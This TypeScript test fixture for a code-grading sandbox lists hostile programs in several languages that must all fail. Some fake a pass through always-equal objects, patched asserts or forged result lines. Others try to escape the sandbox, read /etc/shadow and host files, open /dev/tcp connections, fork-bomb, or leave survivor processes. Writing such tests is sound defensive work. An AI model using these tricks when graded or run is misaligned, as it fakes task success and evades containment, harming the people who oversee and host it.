// Programs that try to pass without solving, to get out, to stay, or to take more than theirs. The task is `f(x) == x + 1`
// (asserts, calls) or "print the sum of two numbers" (stdio); `{port}` and `{canary}` stand for a listener and a file
// on the host. None may pass. Python ones run by both routes.
import type { CodeTask, Language } from "@posttrain/sandbox";

export interface Hostile {
  readonly name: string;
  readonly language: Language;
  readonly mode: CodeTask["mode"];
  readonly source: string;
}

const asserts =
  "def check(candidate):\n    assert candidate(1) == 2\n    assert candidate(41) == 42\n    assert candidate([0])[0] == 1\n\ncheck(f)\n";

/** Name, program: Python against `asserts`. */
const pythonAsserts: readonly (readonly [string, string])[] = [
  ["exit code 0", "import sys\nsys.exit(0)"],
  ["os._exit on load", "import os\nos._exit(0)"],
  ["os._exit in the call", "import os\ndef f(x): os._exit(0)"],
  ["SystemExit in the call", "def f(x): raise SystemExit(0)"],
  ["SystemExit subclass", "class E(SystemExit): pass\ndef f(x): raise E(0)"],
  ["KeyboardInterrupt", "def f(x): raise KeyboardInterrupt"],
  ["GeneratorExit", "def f(x): raise GeneratorExit"],
  ["quit()", "def f(x): quit(0)"],
  ["atexit", "import atexit, os\natexit.register(lambda: os._exit(0))\ndef f(x): return None"],
  [
    "equals everything",
    "class A:\n    def __eq__(s, o): return True\n    def __ne__(s, o): return False\n    def __getitem__(s, i): return s\ndef f(x): return A()",
  ],
  [
    "equals everything, int",
    "class A(int):\n    def __eq__(s, o): return True\n    __hash__ = int.__hash__\n    def __getitem__(s, i): return A(0)\ndef f(x): return A(0)",
  ],
  [
    "equals everything, list",
    "class A(list):\n    def __eq__(s, o): return True\n    def __getitem__(s, i): return 1\ndef f(x): return A([9])",
  ],
  [
    "equals everything, str",
    "class A(str):\n    def __eq__(s, o): return True\n    __hash__ = str.__hash__\ndef f(x): return A('x')",
  ],
  [
    "equals everything, metaclass",
    "class M(type):\n    def __eq__(s, o): return True\n    __hash__ = type.__hash__\nclass A(metaclass=M): pass\ndef f(x): return A",
  ],
  ["mock.ANY", "from unittest.mock import ANY\ndef f(x): return ANY"],
  ["MagicMock", "from unittest.mock import MagicMock\ndef f(x): return MagicMock(__eq__=lambda s, o: True)"],
  [
    "claims a class",
    "class A:\n    __class__ = int\n    def __eq__(s, o): return True\ndef f(x): return A()",
  ],
  [
    "ordering that always agrees",
    "class A:\n    def __lt__(s, o): return True\n    __gt__ = __le__ = __ge__ = __eq__ = __lt__\ndef f(x): return A()",
  ],
  ["patched int.__eq__", "import ctypes\ndef f(x): return 0"],
  [
    "patched builtins",
    "import builtins\nbuiltins.AssertionError = type('X', (), {})\nbuiltins.compile = builtins.exec = lambda *a, **k: None\ndef f(x): return 0",
  ],
  [
    "patched isinstance",
    "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.type = lambda *a: int\ndef f(x): return 0",
  ],
  [
    "patched json",
    "import json\njson.dumps = lambda *a, **k: '{\"value\": 2, \"changes\": []}'\njson.loads = lambda *a: {'op': 'names', 'names': []}\ndef f(x): return 0",
  ],
  [
    "patched runner",
    "import sys\nm = sys.modules['__main__']\nfor n in ('handle', 'operate', 'Encoder'):\n    setattr(m, n, lambda *a, **k: '{\"outcome\": \"pass\"}')\ndef f(x): return 0",
  ],
  [
    "writes a pass to every descriptor",
    "import os\nfor d in range(1, 64):\n    for t in (b'={\"outcome\": \"pass\"}\\n', b'pass\\n'):\n        try: os.write(d, t)\n        except OSError: pass\ndef f(x): return 0",
  ],
  [
    "answers ahead",
    'import os\nfor i in range(5):\n    try: os.write(4, b\'={"value": 2, "changes": []}\\n\')\n    except OSError: pass\ndef f(x): return 0',
  ],
  [
    "answers with a pass in place of a value",
    'import os\ndef f(x):\n    os.write(4, b\'={"outcome": "pass", "value": ["o", 0, "object", "int", true], "changes": []}\\n\')\n    return 0',
  ],
  ["malformed answers", "import os\ndef f(x):\n    os.write(4, b'=[[[[{\\n')\n    os._exit(0)"],
  [
    "prints the nonce's shape",
    'print(\'0123456789abcdef\' * 2)\nprint(\'{"nonce": "0123456789abcdef0123456789abcdef", "outcome": "pass"}\')\ndef f(x): return 0',
  ],
  [
    "reads the tests from memory",
    "import gc\ndef f(x):\n    for o in gc.get_objects():\n        if isinstance(o, (str, dict)) and 'assert candidate' in repr(o)[:100000]: return x + 1\n    return 0",
  ],
  [
    "reads the tests from frames",
    "import sys\ndef f(x):\n    g = sys._getframe()\n    while g:\n        for v in list(g.f_locals.values()) + list(g.f_globals.values()):\n            if isinstance(v, str) and 'assert candidate' in v: return x + 1\n        g = g.f_back\n    return 0",
  ],
  [
    "reads the tests from disk",
    "import os\ndef f(x):\n    for d, _, names in os.walk('/'):\n        if d.startswith(('/proc', '/sys', '/usr', '/lib')): continue\n        for n in names:\n            try:\n                if b'assert candidate' in open(os.path.join(d, n), 'rb').read(100000): return x + 1\n            except OSError: pass\n    return 0",
  ],
  [
    "reads /proc",
    "import os\ndef f(x):\n    for p in os.listdir('/proc'):\n        for n in ('cmdline', 'environ', 'mem'):\n            try:\n                if b'candidate(1)' in open('/proc/%s/%s' % (p, n), 'rb').read(100000): return x + 1\n            except OSError: pass\n    return 0",
  ],
  [
    "reads its own source for the answer",
    "import inspect, sys\ndef f(x):\n    return [v for v in vars(sys.modules['__main__']).values() if isinstance(v, str) and '42' in v][0]",
  ],
  ["changes its argument", "def f(x):\n    if isinstance(x, list): x[0] = 1\n    return x"],
  ["knows the call's number", "n = [0]\ndef f(x):\n    n[0] += 1\n    return {1: 2, 2: 41}.get(n[0])"],
  [
    "shadows names the tests use",
    "check = lambda c: None\ncandidate = lambda x: x + 1\nassert_ = None\ndef f(x): return 0",
  ],
  ["defines no function", "x = 1"],
  ["function is a value", "f = 2"],
  [
    "raises what it cannot",
    "class E(Exception):\n    def __str__(s): raise SystemExit(0)\n    __repr__ = __str__\ndef f(x): raise E()",
  ],
  [
    "exception with evil args",
    "class A(tuple):\n    def __len__(s): raise SystemExit(0)\ndef f(x): raise ValueError(A())",
  ],
  ["AssertionError of its own", "def f(x): raise AssertionError('expected')"],
  ["StopIteration", "def f(x): raise StopIteration"],
  ["cyclic result", "def f(x):\n    a = []\n    a.append(a)\n    return a"],
  ["deep result", "def f(x):\n    a = []\n    for _ in range(100000): a = [a]\n    return a"],
  ["huge result", "def f(x): return 'x' * (100 << 20)"],
  ["endless loop", "def f(x):\n    while True: pass"],
  ["endless loop on load", "while True: pass"],
  [
    "catches everything and loops",
    "def f(x):\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass",
  ],
  ["sleeps", "import time\ndef f(x): time.sleep(1000)"],
  ["endless iterator", "def f(x):\n    while True: yield 1"],
  ["recursion", "def f(x): return f(x)"],
  ["catastrophic pattern", "import re\ndef f(x): return re.match('(a+)+$', 'a' * 40 + 'b')"],
  ["huge power", "def f(x): return 10 ** 10 ** 10"],
  ["memory", "def f(x):\n    a = []\n    while True: a.append(bytearray(1 << 24))"],
  ["memory in one piece", "def f(x): return bytearray(1 << 40)"],
  [
    "shared memory",
    "import mmap\ndef f(x):\n    m = mmap.mmap(-1, 2 << 30)\n    for i in range(0, 2 << 30, 4096): m[i] = 1",
  ],
  ["huge output", "def f(x):\n    while True: print('x' * 100000)"],
  ["huge error output", "import sys\ndef f(x):\n    while True: sys.stderr.write('x' * 100000)"],
  [
    "fills the disk",
    "def f(x):\n    n = 0\n    while True:\n        n += 1\n        open('/tmp/posttrain-hostile-%d' % n, 'wb').write(b'x' * (1 << 22))",
  ],
  [
    "forks a survivor",
    "import os, time\nif os.fork() == 0:\n    os.setsid()\n    os.execvp('sleep', ['sleep', '86437'])\ndef f(x): return 0",
  ],
  [
    "double fork",
    "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0: os.execvp('sleep', ['sleep', '86437'])\n    os._exit(0)\ndef f(x): return 0",
  ],
  [
    "survivor ignores signals",
    "import os, signal, time\nif os.fork() == 0:\n    for s in range(1, 65):\n        try: signal.signal(s, signal.SIG_IGN)\n        except (OSError, ValueError): pass\n    os.execvp('sleep', ['sleep', '86437'])\ndef f(x): return 0",
  ],
  [
    "many processes",
    "import os, time\ndef f(x):\n    for _ in range(200):\n        if os.fork() == 0:\n            time.sleep(100)\n            os._exit(0)\n    return x + 1",
  ],
  [
    "many threads",
    "import threading, time\ndef f(x):\n    for _ in range(500): threading.Thread(target=time.sleep, args=(100,)).start()\n    return x + 1",
  ],
  [
    "subprocess",
    "import subprocess\ndef f(x): return int(subprocess.run(['cat', '{canary}'], capture_output=True, check=True).stdout)",
  ],
  [
    "kills its parent",
    "import os, signal\ndef f(x):\n    os.kill(os.getppid(), signal.SIGKILL)\n    os.kill(1, signal.SIGKILL)\n    os.kill(-1, signal.SIGKILL)",
  ],
  ["reads a host file", "def f(x):\n    open('{canary}').read()\n    return x + 1 if x != [0] else [1]"],
  [
    "reads /etc/passwd",
    "def f(x):\n    assert 'root' in open('/etc/passwd').read()\n    return x + 1 if x != [0] else [1]",
  ],
  [
    "climbs out of the folder",
    "def f(x):\n    open('../../../../../..{canary}').read()\n    return x + 1 if x != [0] else [1]",
  ],
  [
    "symlink to the host",
    "import os\ndef f(x):\n    os.symlink('{canary}', '/tmp/link')\n    open('/tmp/link').read()\n    return x + 1 if x != [0] else [1]",
  ],
  [
    "root through /proc",
    "def f(x):\n    open('/proc/1/root{canary}').read()\n    return x + 1 if x != [0] else [1]",
  ],
  [
    "remounts",
    "import ctypes\ndef f(x):\n    assert ctypes.CDLL(None).mount(b'none', b'/usr', None, 4096 | 32, None) == 0\n    return x + 1 if x != [0] else [1]",
  ],
  ["becomes root", "import os\ndef f(x):\n    os.setuid(0)\n    return x + 1 if x != [0] else [1]"],
  [
    "writes to /usr",
    "def f(x):\n    open('/usr/posttrain-hostile', 'w').write('x')\n    return x + 1 if x != [0] else [1]",
  ],
  [
    "connects to the host",
    "import socket\ndef f(x):\n    socket.create_connection(('127.0.0.1', {port}), 2).send(b'x')\n    return x + 1 if x != [0] else [1]",
  ],
  [
    "fetches by url",
    "import urllib.request\ndef f(x):\n    urllib.request.urlopen('http://127.0.0.1:{port}/', timeout=2)\n    return x + 1 if x != [0] else [1]",
  ],
  [
    "asks a name server",
    "import socket\ndef f(x):\n    assert not socket.gethostbyname('example.com').startswith('172.29.')  # Emscripten makes these up.\n    return x + 1 if x != [0] else [1]",
  ],
  [
    "abstract socket",
    "import socket\ndef f(x):\n    s = socket.socket(socket.AF_UNIX)\n    s.connect('\\0posttrain')\n    return x + 1 if x != [0] else [1]",
  ],
  ["import js", "import js\ndef f(x):\n    js.process.exit(0)"],
  [
    "js.eval",
    'def f(x):\n    from js import eval\n    return eval(\'require("fs").readFileSync("{canary}")\')',
  ],
  ["run_js", "def f(x):\n    from pyodide.code import run_js\n    run_js('process.exit(0)')"],
  [
    "mounts the host's folders",
    "def f(x):\n    import pyodide_js\n    pyodide_js.mountNodeFS('/m', '/')\n    open('/m{canary}').read()\n    return x + 1 if x != [0] else [1]",
  ],
  [
    "constructor.constructor",
    "def f(x):\n    import gc\n    from pyodide.ffi import JsProxy\n    for o in gc.get_objects():\n        if isinstance(o, JsProxy):\n            o.constructor.constructor('return process')().exit(0)\n    raise ValueError",
  ],
  [
    "brings js back",
    "def f(x):\n    import sys, _pyodide._importhook as h\n    for v in vars(h).values():\n        for p in (getattr(v, 'jsproxies', None) or {}).values(): p.eval('process.exit(0)')\n    import js",
  ],
  ["installs a package", "import micropip\ndef f(x): return 0"],
  [
    "opens dlopen",
    "import ctypes\ndef f(x):\n    ctypes.CDLL('libc.so.6').system(b'cat {canary}')\n    return 0",
  ],
  ["stops the garbage collector's world", "import sys\nsys.setrecursionlimit(10**9)\ndef f(x): return f(x)"],
  ["syntax error", "def f(x:\n    return x + 1"],
  ["null bytes", "def f(x):\n    return 0\n\0"],
];

const others: readonly (readonly [Language, CodeTask["mode"], string, string])[] = [
  ["javascript", "asserts", "process.exit", "process.exit(0)"],
  ["javascript", "asserts", "exit in the call", "function f(x) { process.exit(0); }"],
  [
    "javascript",
    "asserts",
    "equals everything",
    "function f(x) { return { valueOf: () => x + 1, [Symbol.toPrimitive]: () => x + 1 }; }",
  ],
  ["javascript", "asserts", "proxy", "function f(x) { return new Proxy({}, { get: () => x + 1 }); }"],
  [
    "javascript",
    "asserts",
    "patches assert",
    "const a = require('assert'); a.strictEqual = a.deepEqual = a.equal = () => {}; function f(x) { return 0; }",
  ],
  [
    "javascript",
    "asserts",
    "patches the prototype",
    'Object.is = () => true; Array.prototype.map = () => []; JSON.stringify = () => \'{"value":2,"changes":[]}\'; JSON.parse = () => ({}); function f(x) { return 0; }',
  ],
  [
    "javascript",
    "asserts",
    "__proto__ in the result",
    'function f(x) { return JSON.parse(\'{"__proto__": {"outcome": "pass"}}\'); }',
  ],
  [
    "javascript",
    "asserts",
    "constructor escape",
    "function f(x) { return f.constructor.constructor('return process')().exit(0); }",
  ],
  [
    "javascript",
    "asserts",
    "writes a pass to every descriptor",
    "for (let d = 1; d < 20; d++) { try { require('fs').writeSync(d, '={\"outcome\": \"pass\"}\\n'); } catch {} } function f(x) { return 0; }",
  ],
  ["javascript", "asserts", "endless loop", "function f(x) { for (;;); }"],
  [
    "javascript",
    "asserts",
    "memory",
    "function f(x) { const a = []; for (;;) a.push(new Array(1e6).fill(1)); }",
  ],
  [
    "javascript",
    "asserts",
    "catastrophic pattern",
    "function f(x) { return /(a+)+$/.test('a'.repeat(40) + 'b'); }",
  ],
  ["javascript", "asserts", "pending promise", "function f(x) { return new Promise(() => {}); }"],
  [
    "javascript",
    "asserts",
    "reads a host file",
    "function f(x) { require('fs').readFileSync('{canary}'); return x + 1; }",
  ],
  [
    "javascript",
    "asserts",
    "survivor",
    "require('child_process').spawn('sleep', ['86437'], { detached: true, stdio: 'ignore' }).unref(); function f(x) { return 0; }",
  ],
  [
    "javascript",
    "asserts",
    "connects to the host",
    "function f(x) { require('child_process').execSync('exec 3<>/dev/tcp/127.0.0.1/{port}', { shell: '/bin/bash' }); return x + 1; }",
  ],
  ["javascript", "stdio", "says nothing", "process.exit(0)"],
  [
    "typescript",
    "asserts",
    "equals everything",
    "class A { valueOf() { return 2; } }\nfunction f(x: number): unknown { return new A(); }",
  ],
  ["python", "stdio", "exit code 0", "import os; os._exit(0)"],
  [
    "python",
    "stdio",
    "right output, then a crash",
    "a, b = map(int, input().split())\nprint(a + b)\nraise ValueError",
  ],
  [
    "python",
    "stdio",
    "right output, then an endless loop",
    "a, b = map(int, input().split())\nprint(a + b, flush=True)\nwhile True: pass",
  ],
  ["python", "stdio", "every answer", "for i in range(100): print(i)"],
  [
    "python",
    "calls",
    "equals everything",
    "class A(int):\n    def __eq__(s, o): return True\ndef f(x): return A(0)",
  ],
  [
    "python",
    "calls",
    "writes its own answer",
    'import os\ndef f(x):\n    os.write(4, b\'={"value": ["R", 0]}\\n\')\n    return 0',
  ],
  ["bash", "stdio", "exit code 0", "exit 0"],
  ["bash", "stdio", "survivor", "setsid sleep 86437 & disown; nohup sleep 86437 >/dev/null 2>&1 & exit 0"],
  ["bash", "stdio", "fork bomb", ":(){ :|:& };:"],
  ["bash", "stdio", "reads the host", "cat {canary} /etc/shadow /proc/1/environ; ls /root /home"],
  ["bash", "stdio", "connects to the host", "exec 3<>/dev/tcp/127.0.0.1/{port}; echo x >&3"],
  ["bash", "stdio", "eats the disk", "cat /dev/zero > /tmp/posttrain-hostile"],
  ["bash", "asserts", "exit code 0", "f() { exit 0; }\nexit 0"],
  [
    "bash",
    "asserts",
    "prints the nonce's shape",
    "echo 0123456789abcdef0123456789abcdef; trap 'exit 0' EXIT\nf() { echo 0; }",
  ],
  ["cpp", "asserts", "exit code 0", "#include <cstdlib>\nint f(int x) { std::exit(0); }"],
  [
    "cpp",
    "asserts",
    "leaves before main",
    "#include <unistd.h>\nstruct A { A() { _exit(0); } } a;\nint f(int x) { return 0; }",
  ],
  [
    "cpp",
    "asserts",
    "defines assert away",
    "#define NDEBUG\n#define assert(x) ((void)0)\nint f(int x) { return 0; }",
  ],
  [
    "cpp",
    "stdio",
    "includes a host file",
    '#include "{canary}"\n#include "/etc/passwd"\nint main() { return 0; }',
  ],
  ["cpp", "stdio", "fork bomb", "#include <unistd.h>\nint main() { for (;;) fork(); }"],
  [
    "cpp",
    "stdio",
    "memory",
    "#include <vector>\nint main() { std::vector<std::vector<char>> a; for (;;) a.emplace_back(1 << 24, 1); }",
  ],
  ["sql", "query", "attaches a file", "attach database '{canary}' as x; select * from x.sqlite_master"],
  ["sql", "query", "loads an extension", "select load_extension('/usr/lib/libc.so.6')"],
  ["sql", "query", "reads a file", "select readfile('{canary}')"],
  ["sql", "query", "writes a file", "vacuum into '/tmp/posttrain-hostile.db'"],
  [
    "sql",
    "query",
    "endless query",
    "with recursive c(x) as (select 1 union all select x + 1 from c) select count(*) from c",
  ],
  [
    "sql",
    "query",
    "too many rows",
    "with recursive c(x) as (select 1 union all select x + 1 from c) select * from c",
  ],
  ["sql", "query", "shell escapes", ".shell cat {canary}\n.read {canary}"],
  ["sql", "query", "writable schema", "pragma writable_schema = on; select 1"],
];

export const hostile: readonly Hostile[] = [
  ...pythonAsserts.map(([name, source]): Hostile => ({ name, language: "python", mode: "asserts", source })),
  ...others.map(([language, mode, name, source]): Hostile => ({ name, language, mode, source })),
];

/** The task that a hostile program is graded on. */
export function taskFor({ language, mode }: Hostile): CodeTask {
  if (mode === "query")
    return {
      mode,
      language: "sql",
      setup: "create table t (a int); insert into t values (2), (42);",
      rows: [[2], [42]],
    };
  if (mode === "stdio") {
    return {
      mode,
      language: language as "bash",
      cases: [
        { stdin: "20 22\n", stdout: "42\n" },
        { stdin: "1 1\n", stdout: "2\n" },
      ],
    };
  }
  if (mode === "calls")
    return {
      mode,
      language: "python",
      entryPoint: "f",
      cases: [
        { args: [1], expected: 2 },
        { args: [41], expected: 42 },
      ],
    };
  const tests: Partial<Record<Language, string>> = {
    python: asserts,
    javascript:
      "const assert = require('node:assert');\nassert.strictEqual(f(1), 2);\nassert.deepEqual(f(41), 42);\n",
    typescript:
      "const assert = require('node:assert');\nassert.strictEqual(f(1), 2);\nassert.deepEqual(f(41), 42);\n",
    bash: "[[ $(f 1) == 2 ]]\n[[ $(f 41) == 42 ]]\n",
    cpp: "int main() { assert(f(1) == 2); assert(f(41) == 42); return 0; }\n",
  };
  return { mode, language: language as "python", tests: tests[language]! };
}
